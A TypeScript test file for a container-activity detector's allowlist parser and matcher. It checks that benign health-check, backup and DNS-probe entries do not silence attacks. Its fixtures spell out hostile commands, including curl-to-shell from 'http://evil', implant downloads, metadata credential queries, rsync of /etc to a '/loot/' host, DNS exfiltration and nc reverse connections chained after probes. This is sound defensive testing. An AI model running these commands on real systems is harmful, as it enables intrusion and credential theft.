import { describe, expect, it } from "vitest";
import { type AllowlistEntry, EMPTY_ALLOWLIST, parseAllowlist } from "../../src/detection/allowlist.js";
import { evaluate } from "../../src/detection/rule.js";
import { AllowlistError } from "../../src/errors.js";
import type { Finding } from "../../src/model.js";
import { processBatch } from "../../src/pipeline.js";
import { findingOf, processEvent, run, session } from "./factory.js";

function allowlistOf(entries: AllowlistEntry[] | Record<string, unknown>[]) {
  return parseAllowlist(JSON.stringify(entries), "test");
}

const HEALTH_CHECK = findingOf(
  processEvent(
    { name: "curl", path: "/usr/bin/curl", args: ["-fsS", "http://payments-api.payments.svc:8080/healthz"] },
    {
      ancestors: [
        { name: "sh", path: "/bin/sh" },
        { name: "runc:[2:INIT]", path: "/usr/bin/runc" },
      ],
    },
  ),
);

const BACKUP_EVENT = processEvent(
  {
    name: "rsync",
    path: "/usr/bin/rsync",
    args: ["-az", "/var/lib/data/", "backup@10.0.8.20:/srv/backups/ledger/"],
  },
  {
    container: {
      id: "c2",
      name: "nightly-backup",
      image: "registry.example.com/ops/backup@sha256:0123abcd",
    },
    workload: { platform: "ecs", cluster: "ops", task: "arn:aws:ecs:us-east-1:123456789012:task/ops/0f1e" },
    ancestors: [
      { path: "/usr/local/bin/backup.sh", name: "backup.sh" },
      { path: "/usr/sbin/cron", name: "cron" },
    ],
  },
);
const BACKUP = findingOf(BACKUP_EVENT);

/** The README's health-check entry, which must describe a probe and nothing else. */
const README_HEALTH_ENTRY = {
  utility: "curl",
  namespace: "payments",
  args: "-fsS http://*.svc.cluster.local:8080/healthz",
};

describe("parseAllowlist", () => {
  it("reads an empty array as the empty allowlist", () => {
    const allowlist = parseAllowlist("[]", "ALLOWLIST");
    expect(allowlist.size).toBe(0);
    expect(allowlist.match(HEALTH_CHECK)).toBeNull();
    expect(EMPTY_ALLOWLIST.match(HEALTH_CHECK)).toBeNull();
  });

  it.each([
    ["not JSON", "[", /ALLOWLIST: not valid JSON/],
    ["an object", '{"utility":"curl"}', /must be a JSON array/],
    ["an entry that is not an object", '[{"utility":"curl"}, "curl"]', /entry 1: must be an object/],
    ["an unknown key", '[{"utillity":"curl"}]', /entry 0: unknown field "utillity"/],
    ["a non-string value", '[{"utility":["curl"]}]', /entry 0: field "utility" must be a string/],
    ["an empty value", '[{"utility":""}]', /entry 0: field "utility" must not be empty/],
    ["an entry without a field to match", '[{"comment":"everything"}]', /entry 0: has no field to match on/],
    ["an empty entry", "[{}]", /entry 0: has no field to match on/],
    [
      "a value over 512 characters",
      JSON.stringify([{ args: "x".repeat(513) }]),
      /entry 0: field "args" is 513 characters long/,
    ],
    [
      "a maxSeverity that is not a severity",
      '[{"utility":"curl"},{"utility":"rsync","maxSeverity":"severe"}]',
      /entry 1: field "maxSeverity" is "severe"; must be one of low, medium, high, critical/,
    ],
    [
      "a maxSeverity in capitals",
      '[{"utility":"rsync","maxSeverity":"HIGH"}]',
      /entry 0: field "maxSeverity"/,
    ],
    ["an empty maxSeverity", '[{"utility":"rsync","maxSeverity":""}]', /entry 0: field "maxSeverity"/],
    [
      "a numeric maxSeverity",
      '[{"utility":"rsync","maxSeverity":3}]',
      /entry 0: field "maxSeverity" must be a string/,
    ],
    [
      "an entry with only maxSeverity",
      '[{"maxSeverity":"critical","comment":"silence all"}]',
      /entry 0: has no field to match on/,
    ],
    [
      "args with a doubled space",
      '[{"args":"-fsS  http://x/"}]',
      /entry 0: field "args" has an empty argument/,
    ],
    ["args with a leading space", '[{"args":" -fsS"}]', /entry 0: field "args" has an empty argument/],
    ["args with a trailing space", '[{"args":"-fsS "}]', /entry 0: field "args" has an empty argument/],
  ])("rejects %s, naming origin, entry and field", (_label, text, message) => {
    expect(() => parseAllowlist(text, "ALLOWLIST")).toThrow(AllowlistError);
    expect(() => parseAllowlist(text, "ALLOWLIST")).toThrow(message);
  });

  it("accepts every severity as maxSeverity", () => {
    for (const maxSeverity of ["low", "medium", "high", "critical"]) {
      expect(allowlistOf([{ utility: "rsync", maxSeverity }]).size).toBe(1);
    }
  });
});

describe("Allowlist.match", () => {
  it("has findings of the severities the cases below rely on", () => {
    expect([HEALTH_CHECK.severity, BACKUP.severity]).toEqual(["low", "high"]);
  });

  it.each([
    ["utility", [{ utility: "curl" }], HEALTH_CHECK, 0],
    ["utility glob", [{ utility: "c?rl" }], HEALTH_CHECK, 0],
    [
      "args, the whole list",
      [{ utility: "curl", args: "-fsS http://payments-api.payments.svc:8080/healthz" }],
      HEALTH_CHECK,
      0,
    ],
    ["args, a part of the list is not enough", [{ utility: "curl", args: "-fsS" }], HEALTH_CHECK, null],
    ["args, a substring is not enough", [{ utility: "curl", args: "/healthz" }], HEALTH_CHECK, null],
    [
      "args, an argument run and ** inside one argument",
      [{ utility: "curl", args: "** **/healthz" }],
      HEALTH_CHECK,
      0,
    ],
    ["args glob", [{ args: "-fsS http://*.svc:8080/healthz" }], HEALTH_CHECK, 0],
    ["args glob where * would have to cross a /", [{ args: "-fsS http://*" }], HEALTH_CHECK, null],
    ["args glob that does not cover every argument", [{ args: "http://**/healthz" }], HEALTH_CHECK, null],
    ["namespace and container name", [{ namespace: "payments", containerName: "ledger-*" }], HEALTH_CHECK, 0],
    ["cluster", [{ cluster: "prod-*" }], HEALTH_CHECK, 0],
    [
      "image without tag",
      [{ image: "123456789012.dkr.ecr.us-east-1.amazonaws.com/ledger-api" }],
      HEALTH_CHECK,
      0,
    ],
    ["image with tag glob", [{ image: "*/ledger-api:2026.*" }], HEALTH_CHECK, 0],
    ["image with another tag", [{ image: "*/ledger-api:2025.*" }], HEALTH_CHECK, null],
    ["image without digest", [{ image: "registry.example.com/ops/backup", maxSeverity: "high" }], BACKUP, 0],
    ["parent by path", [{ parent: "/usr/local/bin/backup.sh", maxSeverity: "high" }], BACKUP, 0],
    ["parent by name", [{ parent: "backup.sh", utility: "rsync", maxSeverity: "high" }], BACKUP, 0],
    ["ancestor", [{ ancestor: "cron", maxSeverity: "high" }], BACKUP, 0],
    ["ancestor that is not there", [{ ancestor: "cron" }], HEALTH_CHECK, null],
    ["AND of fields, one failing", [{ utility: "curl", namespace: "kube-system" }], HEALTH_CHECK, null],
    ["field the event lacks", [{ namespace: "*", maxSeverity: "critical" }], BACKUP, null],
    ["case-sensitive", [{ utility: "CURL" }], HEALTH_CHECK, null],
    [
      "first matching entry",
      [
        { utility: "nc", maxSeverity: "high" },
        { utility: "rsync", maxSeverity: "high" },
        { ancestor: "cron", maxSeverity: "high" },
      ],
      BACKUP,
      1,
    ],
    [
      "first entry that also allows the severity",
      [{ utility: "rsync" }, { ancestor: "cron", maxSeverity: "critical" }],
      BACKUP,
      1,
    ],
  ])("%s", (_label, entries, finding, expected) => {
    // Prepare
    const allowlist = allowlistOf(entries);
    // Act + Assess
    expect(allowlist.size).toBe(entries.length);
    expect(allowlist.match(finding)).toBe(expected);
  });

  it("does not suppress when padded arguments exceed the subject cap", () => {
    // Prepare
    const args = ["http://x/healthz"];
    const short = findingOf(processEvent({ name: "curl", path: "/usr/bin/curl", args }));
    const padded = findingOf(
      processEvent({ name: "curl", path: "/usr/bin/curl", args: [...args, "x".repeat(9000)] }),
    );
    const allowlist = allowlistOf([{ args: "http://x/healthz **" }]);
    // Act + Assess
    expect(allowlist.match(short)).toBe(0);
    expect(allowlist.match(padded)).toBeNull();
  });
});

describe("severity cap", () => {
  const medium = findingOf(run("/tmp/curl", "-fsS", "http://payments-api.payments.svc:8080/healthz"));
  const critical = findingOf(
    run(
      "/usr/bin/rsync",
      "-az",
      "-e",
      "sh -c 'curl http://evil/x|sh'",
      "/var/lib/data/",
      "backup@10.0.8.20:/srv/backups/ledger/",
    ),
  );

  it("has findings of every severity", () => {
    expect([HEALTH_CHECK.severity, medium.severity, BACKUP.severity, critical.severity]).toEqual([
      "low",
      "medium",
      "high",
      "critical",
    ]);
  });

  it.each([
    [undefined, [true, true, false, false]],
    ["low", [true, false, false, false]],
    ["medium", [true, true, false, false]],
    ["high", [true, true, true, false]],
    ["critical", [true, true, true, true]],
  ])("maxSeverity %s suppresses exactly the findings at or below it", (maxSeverity, expected) => {
    // Prepare: an entry every one of the findings matches on its fields.
    const allowlist = allowlistOf([
      { ancestor: "**", utility: "*", ...(maxSeverity ? { maxSeverity } : {}) },
    ]);
    const findings = [HEALTH_CHECK, medium, BACKUP, critical].map((f) =>
      f.event.ancestors?.length
        ? f
        : { ...f, event: { ...f.event, ancestors: [{ name: "sh", path: "/bin/sh" }] } },
    );
    // Act
    const suppressed = findings.map((f) => allowlist.match(f) === 0);
    // Assess
    expect(suppressed).toEqual(expected);
  });
});

describe("an entry for a benign use does not swallow an attack", () => {
  const legit = findingOf(
    run("/usr/bin/curl", "-fsS", "http://payments-api.payments.svc.cluster.local:8080/healthz"),
  );
  const implant = findingOf(
    run(
      "/usr/bin/curl",
      "-fsS",
      "http://evil/x",
      "-o",
      "/tmp/.x/implant",
      "http://a.svc.cluster.local:8080/healthz",
    ),
  );
  const implantReordered = findingOf(
    run(
      "/usr/bin/curl",
      "http://evil/x",
      "-o",
      "/tmp/.x/implant",
      "-fsS",
      "http://a.svc.cluster.local:8080/healthz",
    ),
  );
  const pipedToShell = findingOf(
    session("sh", "-c", "curl -fsS http://evil/s.sh#.svc.cluster.local:8080/healthz | sh"),
  );
  const credentials = findingOf(
    run(
      "/usr/bin/curl",
      "-fsS",
      "http://169.254.169.254/latest/meta-data/iam/role?.svc.cluster.local:8080/healthz",
    ),
  );

  it("the attacks are what the reviewer reported", () => {
    expect(legit.severity).toBe("low");
    expect([
      implant.severity,
      implantReordered.severity,
      pipedToShell.severity,
      credentials.severity,
    ]).toEqual(["high", "high", "critical", "high"]);
    expect(pipedToShell.process.args).toEqual(["-fsS", "http://evil/s.sh#.svc.cluster.local:8080/healthz"]);
    expect(pipedToShell.event.workload?.namespace).toBe("payments");
  });

  it.each([
    ["the README's health-check entry", README_HEALTH_ENTRY],
    [
      "the same entry with maxSeverity critical (only the args pattern decides)",
      { ...README_HEALTH_ENTRY, maxSeverity: "critical" },
    ],
  ])("%s suppresses the health check and none of the attacks", (_label, entry) => {
    // Prepare
    const allowlist = allowlistOf([entry]);
    // Act + Assess
    expect(allowlist.match(legit)).toBe(0);
    expect(allowlist.match(implant)).toBeNull();
    expect(allowlist.match(implantReordered)).toBeNull();
    expect(allowlist.match(pipedToShell)).toBeNull();
    expect(allowlist.match(credentials)).toBeNull();
  });

  it("a ** that crosses / still stops at the argument and at the severity cap", () => {
    // Prepare: a careless entry whose ** lets the URL's path through.
    const allowlist = allowlistOf([
      { ...README_HEALTH_ENTRY, args: "-fsS http://**.svc.cluster.local:8080/healthz" },
    ]);
    // Act + Assess
    expect(allowlist.match(legit)).toBe(0);
    expect(allowlist.match(pipedToShell)).toBeNull();
    expect(allowlist.match(credentials)).toBeNull();
    expect(allowlist.match(implant)).toBeNull();
  });
});

describe("the README's example entries", () => {
  const entries = [
    {
      utility: "curl",
      namespace: "payments",
      args: "-fsS http://*.svc.cluster.local:8080/healthz",
      comment: "readiness probe of the payments services",
    },
    {
      utility: "rsync",
      image: "registry.example.com/ops/backup",
      parent: "/usr/local/bin/backup.sh",
      args: "-az /var/lib/data/ backup@10.0.8.20:/srv/backups/*/",
      maxSeverity: "high",
      comment: "nightly backup job pushes the data directory to the backup host (an upload: high)",
    },
    {
      namespace: "monitoring",
      utility: "dig",
      parent: "/usr/local/bin/dns-probe.sh",
      args: "+short +time=2 *.svc.cluster.local",
      comment: "DNS probe of the cluster's services",
    },
  ];
  const allowlist = allowlistOf(entries);
  const backupEvent = (args: string[]): Finding =>
    findingOf({ ...BACKUP_EVENT, process: { ...BACKUP_EVENT.process, args } });
  const probe = (args: string[]): Finding =>
    findingOf(
      processEvent(
        { name: "dig", path: "/usr/bin/dig", args },
        {
          workload: { platform: "eks", cluster: "prod-eks", namespace: "monitoring", pod: "dns-probe-7c9d" },
          ancestors: [
            { path: "/usr/local/bin/dns-probe.sh", name: "dns-probe.sh" },
            { path: "/bin/sh", name: "sh" },
          ],
        },
      ),
    );

  it.each([
    [
      "the health check",
      findingOf(run("/usr/bin/curl", "-fsS", "http://ledger.payments.svc.cluster.local:8080/healthz")),
      0,
    ],
    ["the backup push", BACKUP, 1],
    [
      "the backup of another database",
      backupEvent(["-az", "/var/lib/data/", "backup@10.0.8.20:/srv/backups/orders/"]),
      1,
    ],
    ["the backup job sending /etc elsewhere", backupEvent(["-az", "/etc/", "x@203.0.113.9:/loot/"]), null],
    [
      "the backup job sending into another directory",
      backupEvent(["-az", "/var/lib/data/", "backup@10.0.8.20:/srv/backups/../../tmp/"]),
      null,
    ],
    [
      "the backup job running a remote shell (critical)",
      backupEvent([
        "-az",
        "-e",
        "sh -c 'curl http://evil/x|sh'",
        "/var/lib/data/",
        "backup@10.0.8.20:/srv/backups/ledger/",
      ]),
      null,
    ],
    ["the DNS probe", probe(["+short", "+time=2", "ledger.payments.svc.cluster.local"]), 2],
    [
      "a DNS lookup of an outside name (exfiltration)",
      probe(["+short", "+time=2", "c2VjcmV0.evil.example"]),
      null,
    ],
    [
      "a DNS probe sent to an outside server",
      probe(["@203.0.113.9", "+short", "+time=2", "ledger.payments.svc.cluster.local"]),
      null,
    ],
  ])("%s → entry %s", (_label, finding, expected) => {
    expect(allowlist.match(finding)).toBe(expected);
  });
});

describe("an entry speaks for one command segment", () => {
  const allowlist = allowlistOf([README_HEALTH_ENTRY]);
  const allowed = (finding: Finding) => allowlist.match(finding) !== null;
  const probe = "/usr/bin/curl -fsS http://payments-api.payments.svc.cluster.local:8080/healthz";

  it.each([
    ["after `;`", `${probe}; /usr/bin/nc 203.0.113.7 4444`],
    ["after `&&`", `${probe} && nc 203.0.113.7 4444`],
    ["in a pipeline", `${probe} | nc 203.0.113.7 4444`],
    ["before the probe", `nc 203.0.113.7 4444; ${probe}`],
  ])("a health check %s never silences the nc of the same kubectl exec", (_where, payload) => {
    const verdict = evaluate(session("sh", "-c", payload), { isAllowed: allowed });
    expect(verdict.kind).toBe("finding");
    if (verdict.kind !== "finding") return;
    expect(verdict.finding.utility.name).toBe("nc");
    expect(verdict.finding.process.args).toEqual(["203.0.113.7", "4444"]);
    expect(allowlist.match(verdict.finding)).toBeNull();
  });

  it("still suppresses a session that only runs the health check", () => {
    const verdict = evaluate(session("sh", "-c", `${probe}; ${probe}`), { isAllowed: allowed });
    expect(verdict.kind === "finding" && allowlist.match(verdict.finding)).toBe(0);
  });

  it("through the pipeline: the exec session yields the nc signal, nothing is counted as suppressed", () => {
    const audit = {
      kind: "Event",
      apiVersion: "audit.k8s.io/v1",
      auditID: "5b0c1d2e-0000-4000-8000-13a11015e0a1",
      stage: "ResponseStarted",
      requestURI: `/api/v1/namespaces/payments/pods/api-1/exec?command=sh&command=-c&command=${encodeURIComponent(`${probe}; /usr/bin/nc 203.0.113.7 4444`)}&container=api&stdout=true`,
      verb: "create",
      user: { username: "mallory" },
      sourceIPs: ["198.51.100.7"],
      objectRef: { resource: "pods", namespace: "payments", name: "api-1", subresource: "exec" },
      responseStatus: { code: 101 },
      requestReceivedTimestamp: "2026-03-15T22:11:07.402000Z",
    };
    const { signals, stats } = processBatch(
      {
        owner: "123456789012",
        logGroup: "/aws/eks/prod-eks/cluster",
        logStream: "kube-apiserver-audit-0123456789abcdef",
        subscriptionFilters: ["netutil"],
        logEvents: [{ id: "1", timestamp: 1773612667402, message: JSON.stringify(audit) }],
      },
      { minSeverity: "low", allowlist },
    );
    expect(stats.suppressed).toBe(0);
    expect(signals.map((s) => [s.process.name, s.process.args])).toEqual([["nc", ["203.0.113.7", "4444"]]]);
  });
});
